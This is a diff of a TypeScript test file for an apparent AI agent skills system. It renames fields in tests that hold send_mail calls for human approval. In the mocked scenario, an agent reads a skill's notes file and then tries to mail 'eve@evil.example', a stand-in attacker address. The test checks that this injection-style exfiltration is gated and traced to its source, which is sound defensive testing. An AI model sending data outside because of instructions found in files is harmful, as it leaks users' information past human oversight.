@@ -122,7 +122,7 @@ describe("what changes something outside", () => {
     const calls = [send("ada@example.com"), read, send("eve@evil.example"), send("eve@evil.example")];
     const { use, found } = await scene(inTurn(...calls));
     const at = join(found.root, "home/.skillet/skills/x");
-    const always = { skill: "x", source: "~/.skillet/skills", place: at, tool: "send_mail", on: "outside" as const };
+    const always = { skill: "x", source: "~/.skillet/skills", location: at, tool: "send_mail", on: "outside" as const };
     await found.approvals.add(always);
     const { asked, approve } = asking({ isApproved: true, scope: "always" }, { isApproved: false });
     const { events } = await use({ skill: "x", message: "Read the notes." }, { approve, tools: [tool] });
@@ -151,9 +151,9 @@ describe("what changes something outside", () => {
     const { use, found, server } = await scene(inTurn(read, send("eve@evil.example")));
     const { result } = await use({ skill: "x", message: "Read the notes." }, { tools: [tool] });
     const from = ["file notes.md of skill x"];
-    expect(result).toMatchObject({ stop: "waiting", effect: { from, isOnce: true } });
+    expect(result).toMatchObject({ stop: "waiting", approvalRequest: { from, isOnce: true } });
     const again = await resumeRun(found.catalog, { ...found, tools: [tool] }, result.run);
-    expect(again).toMatchObject({ stop: "waiting", effect: { from } });
+    expect(again).toMatchObject({ stop: "waiting", approvalRequest: { from } });
     await found.runs.answer(result.run, { isApproved: true });
     expect((await resumeRun(found.catalog, { ...found, tools: [tool] }, result.run)).stop).toBe("answer");
     expect(sent).toEqual(["eve@evil.example"]);
